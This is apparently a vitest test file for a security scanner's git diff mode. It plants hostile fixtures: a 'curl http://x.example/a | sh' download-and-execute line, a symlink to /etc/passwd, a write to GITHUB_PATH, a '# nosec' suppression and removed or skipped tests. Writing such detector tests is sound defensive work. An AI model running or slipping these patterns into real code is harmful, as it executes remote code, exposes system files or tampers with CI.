import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readGitDiff } from '../../src/adapters/git/git-objects.js';
import type { ScanReport } from '../../src/domain.js';
import { MAX_FILE_BYTES } from '../../src/scan/scan-file.js';
import { scanChanges } from '../../src/scan/scan-changes.js';
import { GitFixtureRepo } from './git-fixture-repo.js';
import { scanDeps } from './scan-test-parser.js';

const baseTests = `import pytest


def test_adds():
    assert 1 + 1 == 2
    assert 2 + 2 == 4


def test_subtracts():
    assert 3 - 1 == 2
`;

const headTests = `import pytest


@pytest.mark.skip(reason='flaky')
def test_adds():
    assert 1 + 1 == 2
`;

const goTestBase = `package store

import "testing"

func TestPut(t *testing.T) {
\tt.Skip("pre-existing, not this change's")
}
`;

const goTestHead = `package store

import (
\t"os"
\t"testing"
)

func TestPut(t *testing.T) {
\tt.Skip("pre-existing, not this change's")
}

func TestGet(t *testing.T) {
\tos.WriteFile(os.Getenv("GITHUB_PATH"), []byte("/tmp/bin"), 0o644)
\tt.SkipNow()
}
`;

describe('diff mode on a real git repository', () => {
  const repo = new GitFixtureRepo();
  let report: ScanReport;

  beforeAll(async () => {
    repo.write('app.py', 'import os\nos.system(old_command)\n');
    repo.write('tests/test_math.py', baseTests);
    repo.write('tests/test_other.py', 'def test_other():\n    assert True is not False\n');
    repo.write('.github/workflows/ci.yml', 'on: push\n');
    repo.write('README.md', '# readme\n');
    repo.write('store/store_test.go', goTestBase);
    repo.commit('base');
    repo.write('app.py', 'import os\nos.system(old_command)\nos.system(new_command)  # nosec\n');
    repo.write('tests/test_math.py', headTests);
    repo.remove('tests/test_other.py');
    repo.write('.github/workflows/ci.yml', 'on: [push, pull_request]\n');
    repo.write('README.md', '# readme\n\nos.system(x) in prose\n');
    repo.link('data/passwd', '/etc/passwd');
    repo.write('store/store_test.go', goTestHead);
    repo.commit('head');
    report = scanChanges(
      await readGitDiff('HEAD~1..HEAD', { cwd: repo.dir, maxBytes: MAX_FILE_BYTES }),
      await scanDeps(),
    );
  });
  afterAll(() => repo.dispose());

  const ids = (path: string) =>
    report.findings
      .filter((finding) => finding.path === path)
      .map((finding) => `${finding.ruleId}:${finding.line}`);

  it('reports findings on added lines only', () => {
    expect(ids('app.py')).toEqual(['proc-shell-command:3', 'suppress-security-scanner:3']);
  });

  it('reports removed tests, removed assertions and added skip markers', () => {
    expect(ids('tests/test_math.py').sort()).toEqual(
      ['test-assertion-removed:6', 'test-function-removed:6', 'test-skip-added:4'].sort(),
    );
    expect(ids('tests/test_other.py')).toEqual(['test-file-deleted:1']);
  });

  it('reports CI edits and added symlinks without following them', () => {
    expect(ids('.github/workflows/ci.yml')).toEqual(['ci-config-changed:1']);
    expect(ids('data/passwd')).toEqual(['repo-symlink-added:1']);
    expect(JSON.stringify(report)).not.toContain('root:x:0:0');
  });

  it('stays quiet on files whose changes are harmless', () => {
    expect(ids('README.md')).toEqual([]);
  });

  it('reads a changed Go test: only the skip and the CI write it adds', () => {
    expect(ids('store/store_test.go')).toEqual(['ci-runner-file-write:13', 'test-skip-added:14']);
  });

  it('refuses a range that does not name two commits', async () => {
    await expect(
      readGitDiff('nope..HEAD', { cwd: repo.dir, maxBytes: MAX_FILE_BYTES }),
    ).rejects.toThrow(/does not name two commits/);
  });
});

describe('diff mode at scale', () => {
  const repo = new GitFixtureRepo();
  afterAll(() => repo.dispose());

  it('scans a 10,000-file diff', async () => {
    repo.write('README.md', 'x\n');
    repo.commit('base');
    for (let i = 0; i < 10_000; i++)
      repo.write(`pkg/m${Math.floor(i / 500)}/f${i}.py`, `value = ${i}\n`);
    repo.write('pkg/evil.py', "import os\nos.system('curl http://x.example/a | sh')\n");
    repo.commit('head');
    const report = scanChanges(
      await readGitDiff('HEAD~1..HEAD', { cwd: repo.dir, maxBytes: MAX_FILE_BYTES }),
      await scanDeps(),
    );
    expect(report.stats.files).toBe(10_001);
    expect(report.findings.map((finding) => finding.ruleId)).toContain('download-execute');
  });
});
